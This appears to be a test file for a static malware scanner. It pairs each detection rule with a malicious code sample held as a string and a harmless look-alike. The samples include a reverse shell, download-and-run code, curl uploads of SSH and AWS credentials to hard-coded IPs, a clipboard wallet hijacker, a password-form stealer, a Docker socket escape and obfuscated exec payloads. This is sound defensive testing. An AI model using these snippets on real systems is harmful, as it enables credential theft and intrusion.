/**
 * Behaviour rules, code view and static decoding: each rule with the real-world case
 * it catches and the honest look-alike it must leave alone. Everything is scanned as text; nothing
 * here is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { deflateSync } from 'node:zlib';
import { scanText } from '../../shared/packages/analysis/index.js';
import { BEHAVIOUR_RULES } from '../../shared/packages/analysis/behaviour-rules.js';
import { type Lang, Signal } from '../../shared/packages/analysis/signals.js';

const ORDER = ['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'];
const serious = (text: string, lang: Lang, path = lang === 'py' ? 'p/__init__.py' : 'index.js') =>
  scanText(text, { path, lang }).findings.filter((f) => ORDER.indexOf(f.severity) >= ORDER.indexOf('MEDIUM'));
const ids = (text: string, lang: Lang) => serious(text, lang).map((f) => f.ruleId);

const CASES: Record<string, { lang: Lang; hit: string; lookAlike: string }> = {
  reverse_shell: {
    lang: 'py',
    hit: 'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.9",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n',
    // A process wrapper that pipes data into a child's stdin, no socket.
    lookAlike: 'import subprocess\np = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)\np.communicate(b"echo hi")\n',
  },
  exec_builtins_indirect: {
    lang: 'py',
    hit: `${' '.repeat(300)}__import__('builtins').exec(__import__('base64').b64decode("cHJpbnQoMSk="))\n`,
    lookAlike: 'import builtins\nprint(builtins.__name__)\nexec_mode = "fast"\n',
  },
  known_obfuscator: {
    lang: 'py',
    hit: "obfuscate = dict(map(lambda map,dict:(map,dict),['(https://pyobfuscate.com)*(decrypt)'],['''abc''']))\nexec(obfuscate)\n",
    lookAlike: '# see https://pyobfuscate.com for why obfuscation is bad\ndef run(code):\n    return len(code)\n',
  },
  download_execute: {
    lang: 'py',
    hit: 'import os, urllib.request, subprocess\np = os.path.join(os.getenv("TEMP"), "helper.exe")\nurllib.request.urlretrieve("https://example.net/h.exe", p)\nsubprocess.run([p])\n',
    // Downloading a data file and reading it is not running it.
    lookAlike: 'import urllib.request, json\nurllib.request.urlretrieve("https://example.net/data.json", "data.json")\nprint(json.load(open("data.json")))\n',
  },
  recon_exfil: {
    lang: 'py',
    hit: 'import os, socket, getpass, requests\nrequests.post("https://collector.example.net/x", json={"u": getpass.getuser(), "h": socket.gethostname(), "cwd": os.getcwd()})\n',
    lookAlike: 'import socket\nHOST = socket.gethostname()\nprint("serving on", HOST)\n',
  },
  clipboard_wallet_hijack: {
    lang: 'py',
    hit: 'import pyperclip, re, time\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t):\n        pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")\n    time.sleep(1)\n',
    lookAlike: 'import pyperclip\ndef copy_result(text):\n    pyperclip.copy(text)\n',
  },
  browser_extension_drop: {
    lang: 'py',
    hit: 'import os\nd = os.getenv("APPDATA") + "\\\\Extension"\nwith open(d + "\\\\background.js", "w") as f:\n    f.write(PAYLOAD)\nos.system("chrome.exe --load-extension=" + d)\n',
    lookAlike: 'import json\nwith open("manifest.json") as f:\n    m = json.load(f)\nprint(m["name"])\n',
  },
  js_dynamic_code_env_key: {
    lang: 'js',
    hit: "var crypto = require('crypto');\nvar d = crypto.createDecipher('aes256', process.env.npm_package_description);\nvar code = d.update(payload, 'hex', 'utf8') + d.final('utf8');\nvar m = new module.constructor();\nm._compile(code, '');\n",
    lookAlike: "const crypto = require('crypto');\nfunction decrypt(key, data) { const d = crypto.createDecipheriv('aes-256-cbc', key, iv); return d.update(data); }\nmodule.exports = decrypt;\n",
  },
  js_module_compile: {
    lang: 'js',
    hit: "const src = Buffer.from(blob, 'base64').toString();\nconst m = new module.constructor();\nm._compile(src, 'x.js');\n",
    lookAlike: "// require hooks compile transpiled files\nconst fs = require('fs');\nModule.prototype._compile = wrap(Module.prototype._compile);\n",
  },
  container_escape: {
    lang: 'js',
    hit: "const S = '/var/run/docker.sock';\ncall('POST', '/containers/create', { Image: 'alpine', Cmd: ['chroot', '/h', 'sh', '-c', 'id'], HostConfig: { Binds: ['/:/h'], Privileged: true } });\n",
    // A client listing containers over the socket.
    lookAlike: "exports.ps = (socketPath = '/var/run/docker.sock') => http.get({ socketPath, path: '/containers/json' });\n",
  },
  http_client_patch_exfil: {
    lang: 'py',
    hit: "import requests\n_orig = requests.Session.send\ndef send(self, r, **kw):\n    keep = {k: v for k, v in r.headers.items() if k.lower() in ('authorization', 'cookie')}\n    _orig(requests.Session(), requests.Request('POST', 'https://198.51.100.45/h', json=keep).prepare())\n    return _orig(self, r, **kw)\nrequests.Session.send = send\n",
    // A request logger patching send: no destination of its own.
    lookAlike: "import logging, requests\n_orig = requests.Session.send\ndef send(self, r, **kw):\n    logging.debug('%s %s', r.method, 'authorization' in r.headers)\n    return _orig(self, r, **kw)\nrequests.Session.send = send\n",
  },
  wallet_key_intercept: {
    lang: 'py',
    hit: "import requests\nfrom eth_account import Account\n_orig = Account.from_key\ndef _k(k):\n    a = _orig(k)\n    requests.post('https://rpc-mirror.example/v', data=bytes(a.key))\n    return a\nAccount.from_key = _k\n",
    // A library reading an account from a key and sending a signed transaction to its RPC host: nothing replaced.
    lookAlike: "from eth_account import Account\nfrom web3 import Web3\nw3 = Web3(Web3.HTTPProvider('https://rpc.example.org'))\ndef pay(key, tx):\n    acct = Account.from_key(key)\n    return w3.eth.send_raw_transaction(acct.sign_transaction(tx).raw_transaction)\n",
  },
  audit_hook_secret_capture: {
    lang: 'py',
    hit: "import sys\nSEEN = []\ndef _h(event, args):\n    if event == 'open' and 'credentials' in str(args[0]):\n        SEEN.append((args[0], open(args[0], 'rb').read()))\nsys.addaudithook(_h)\n",
    // A sandbox hook that refuses opens of key files.
    lookAlike: "import sys\ndef _guard(event, args):\n    if event == 'open' and 'id_rsa' in str(args[0]):\n        raise PermissionError('blocked: ' + str(args[0]))\nsys.addaudithook(_guard)\n",
  },
  browser_form_stealer: {
    lang: 'js',
    hit: "document.addEventListener('submit', () => {\n  const p = document.querySelector('input[type=password]').value;\n  navigator.sendBeacon('https://collect.example.net/p', p);\n});\n",
    lookAlike: "form.addEventListener('submit', (e) => {\n  const p = document.querySelector('input[type=password]');\n  if (p.value.length < 8) e.preventDefault();\n});\n",
  },
};

test('every behaviour rule has a case and a look-alike here', () => {
  for (const r of BEHAVIOUR_RULES) assert.ok(CASES[r.id], `no test case for ${r.id}`);
});

for (const [id, c] of Object.entries(CASES)) {
  test(`${id}: the real-world case is caught, the look-alike is not`, () => {
    assert.ok(ids(c.hit, c.lang).includes(id), `${id} missed: ${ids(c.hit, c.lang).join()}`);
    assert.not.ok(ids(c.lookAlike, c.lang).includes(id), `${id} fired on the look-alike`);
  });
}

test('comments, doc strings and help texts are not code', () => {
  // aws-sdk: a credential path in a doc comment, in a file that makes network calls.
  const doc = "/**\n * @option options filename [String] ('~/.aws/credentials' or defined by env)\n * Allows request.get('https://1.2.3.4/')\n */\nconst https = require('https');\nhttps.request({ host: 'api.example.com' }).end();\n";
  assert.equal(serious(doc, 'js'), []);
  // Python doc string and comment.
  const py = '"""Reads ~/.config/Exodus/exodus.wallet and posts to https://discord.com/api/webhooks/1/x"""\n# os.system("curl http://203.0.113.9/x | sh")\nimport requests\nrequests.get("https://api.example.com")\n';
  assert.equal(serious(py, 'py'), []);
  // pm2: a help text with curl | bash in a file that spawns processes elsewhere.
  const help = `const cp = require('child_process');\nfunction run(c) { return cp.exec(c); }\n${'// padding\n'.repeat(40)}const HELP = { nvm: '$ curl https://example.com/install.sh | bash' };\n`;
  assert.equal(serious(help, 'js'), []);
  // The same pipe handed to exec is remote code execution.
  const real = "const cp = require('child_process');\ncp.exec('curl https://example.com/install.sh | bash');\n";
  assert.ok(ids(real, 'js').includes('remote_code_exec'));
});

test("a browser's program path is not a browser profile; a Login Data store next to a send is", () => {
  const prog = "const https = require('https');\nconst p = { ia32: '/mnt/c/Program Files (x86)/Google/Chrome/Application/chrome.exe' };\nhttps.get('https://example.com');\n";
  assert.equal(serious(prog, 'js'), []);
  const steal = "import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google/Chrome/User Data/Default/Login Data')\nrequests.post('https://example.net/u', files={'f': open(p, 'rb')})\n";
  assert.ok(ids(steal, 'py').includes('exfil_credential_file'));
});

test('a curl / wget command on a URL started as a process is network use: credential files uploaded to an IP; help text is not', () => {
  // The real shape (a fork of a vendor SDK): history, git config and ~/.ssh zipped, then `curl -F file=@zip` to an IP through os.system.
  const real = "import os, shutil, zipfile, pwd\ndef collect():\n    user = pwd.getpwuid(os.getuid())[0]\n    ssh = '/Users/' + user + '/.ssh'\n    shutil.copytree(ssh, '/tmp/l/ssh')\n    shutil.copyfile('/Users/' + user + '/.bash_history', '/tmp/l/h')\n    zipname = '/tmp/l.zip'\n    command = \"curl -k -F \\\"file=@\" + zipname + \"\\\" \\\"https://45.13.22.8/api/v1/file/upload\\\" -v\"\n    os.system(command)\n";
  assert.ok(ids(real, 'py').includes('exfil_suspicious_destination'), ids(real, 'py').join(','));
  // Variants: an argument list with curl -T, and wget --post-file through subprocess.
  const upload = "import subprocess, os\nkey = os.path.expanduser('~/.ssh/id_rsa')\nsubprocess.run(['curl', '-s', '-T', key, 'https://45.13.22.8/u/'])\n";
  assert.ok(ids(upload, 'py').some((r) => r.startsWith('exfil_')), ids(upload, 'py').join(','));
  const wget = "import subprocess\nsubprocess.call('wget -q --post-file=' + os.path.expanduser('~/.aws/credentials') + ' https://45.13.22.8/c', shell=True)\n";
  assert.ok(ids(wget, 'py').some((r) => r.startsWith('exfil_')), ids(wget, 'py').join(','));
  // Honest twins: an install hint in a help text far from the one process start, and a report
  // uploaded with curl to a URL the caller passes (no credential read, no hard-coded destination).
  const help = `import subprocess\nUSAGE = """tool: fetch the CLI first with curl -fsSLO https://tool.example.dev/tool-linux.tgz"""\n${'# padding\n'.repeat(40)}def version():\n    return subprocess.run(['git', 'describe'], capture_output=True).stdout\nSSH_DIR = '~/.ssh'\n`;
  assert.equal(ids(help, 'py'), []);
  assert.is(scanText(help, { path: 'p/cli.py', lang: 'py' }).signals & Signal.NETWORK, 0, 'a command in a help text is not network use');
  assert.ok(scanText(real, { path: 'p/api.py', lang: 'py' }).signals & Signal.NETWORK);
  const report = "import subprocess\ndef upload(report, url):\n    subprocess.run(['curl', '-fsS', '-F', f'file=@{report}', url + '/api/upload', '--fail'], check=True)\n    return 'https://reports.example.dev/latest'\n";
  assert.equal(ids(report, 'py'), []);
});

test('a PEM header constant is not a private key', () => {
  assert.equal(serious("const HEADER = '-----BEGIN PRIVATE KEY-----';\n", 'js'), []);
});

test('a webhook or bot destination is exfiltration even without an environment read', () => {
  const t = 'import requests, platform\nrequests.post("https://discord.com/api/webhooks/1087389369901522986/aXyWO4s0TJpjXYvcsAstmA", json={"content": platform.node()})\n';
  assert.ok(ids(t, 'py').includes('exfil_suspicious_destination'));
});

test('static decoding: escaped builtin names, base64+zlib, chr chains and XOR lists are decoded and scanned again', () => {
  const esc = '_____=eval("\\x65\\x76\\141\\x6c")\n';
  assert.ok(ids(esc, 'py').includes('obfuscated_builtin_name'));

  const inner = 'import os\nos.system("curl -s https://example.net/a.exe -o a.exe && a.exe")\n';
  const b64 = deflateSync(Buffer.from(inner)).toString('base64');
  const z = `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${b64}${'A'.repeat(Math.max(0, 80 - b64.length))}")))\n`;
  const zi = ids(z, 'py');
  assert.ok(zi.includes('hidden_payload') || zi.includes('decode_exec'), zi.join());

  const chain = `exec(${[...'import os;os.system("id")'].map((c) => `chr(${c.charCodeAt(0)})`).join('+')})\n`;
  assert.ok(ids(chain, 'py').includes('encoded_code_exec'), ids(chain, 'py').join());

  const key = 23;
  const xs = [...'import socket;s=socket.socket()'].map((c) => c.charCodeAt(0) ^ key).join(', ');
  const xor = `data = [${xs}]\nexec("".join(chr(c ^ ${key}) for c in data))\n`;
  assert.ok(ids(xor, 'py').includes('encoded_code_exec'), ids(xor, 'py').join());

  // Decoding data that is not code (an embedded image) stays quiet.
  const img = `import base64\nICON = base64.b64decode("${Buffer.alloc(120, 7).toString('base64')}")\n`;
  assert.equal(serious(img, 'py'), []);
});

test.run();
